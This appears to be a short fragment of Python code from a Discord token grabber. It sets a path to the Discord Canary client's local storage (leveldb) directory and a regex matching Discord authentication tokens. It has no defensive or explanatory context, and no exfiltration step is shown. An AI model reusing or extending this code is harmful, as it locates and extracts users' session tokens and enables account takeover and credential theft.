PATHS = {"Discord Canary": roaming + "\\discordcanary\\Local Storage\\leveldb"}
R = r"[\w-]{24}\.[\w-]{6}\.[\w-]{27}"
